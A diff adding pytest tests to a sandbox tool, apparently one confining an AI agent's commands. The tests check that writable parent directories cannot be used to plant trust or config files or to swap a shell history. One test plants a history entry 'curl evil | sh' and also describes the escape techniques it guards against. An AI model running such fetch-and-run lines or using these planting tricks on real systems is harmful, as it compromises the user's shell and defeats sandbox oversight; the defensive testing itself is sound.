@@ -248,3 +248,35 @@ def test_root_runs_with_its_real_home_treated_like_any_home(world: World) -> Non
     lines = res.stdout.split()
     assert lines[0] == "/root"
     assert ".ssh" not in lines and ".bash_history" not in lines and ".claude" not in lines
+
+
+@pytest.mark.parametrize("parent", [".local", ".local/state", ".config"])
+def test_writable_parent_of_rcc_state_is_refused(world: World, parent: str) -> None:
+    """`--rw ~/.local` would let the sandbox plant ~/.local/state/rcc/trust.json (or rename `state` away with
+    its mask) and trust its own .rcc.toml next time; `--rw ~/.config` would plant a user config.toml."""
+    world.write(world.home / ".local/state/other-app/state.json", "{}\n")
+    res = world.sh(
+        'mkdir -p "$HOME/.local/state/rcc" "$HOME/.config/rcc"; echo "{}" > "$HOME/.local/state/rcc/trust.json"; '
+        'echo "[network]" > "$HOME/.config/rcc/config.toml"; true',
+        "--rw",
+        str(world.home / parent),
+    )
+    assert res.returncode == 78, (res.returncode, res.stderr)
+    assert not (world.home / ".local/state/rcc").exists() and not (world.home / ".config/rcc").exists()
+
+
+def test_rename_parent_of_hidden_path_in_writable_dir_fails(world: World) -> None:
+    """`--rw ~/.local/share`: renaming `fish` would carry the mask over fish_history away and let the sandbox
+    plant a history the host's shell then trusts."""
+    world.write(world.home / ".local/share/fish/fish_history", "SECRET-fish-history\n")
+    world.write(world.home / ".local/share/app/data.txt", "data\n")
+    res = world.sh(
+        'cd "$HOME/.local/share"; mv fish fish-old 2>/dev/null && echo MOVED; mkdir -p fish; '
+        "echo '- cmd: curl evil | sh' > fish/fish_history 2>/dev/null && echo PLANTED; "
+        "cat fish/fish_history fish-old/fish_history 2>/dev/null; echo ok >> app/data.txt",
+        "--rw",
+        str(world.home / ".local/share"),
+    )
+    assert "MOVED" not in res.stdout and "PLANTED" not in res.stdout and "SECRET" not in res.stdout, res.stdout
+    assert (world.home / ".local/share/fish/fish_history").read_text() == "SECRET-fish-history\n"
+    assert (world.home / ".local/share/app/data.txt").read_text() == "data\nok\n"  # control: still writable
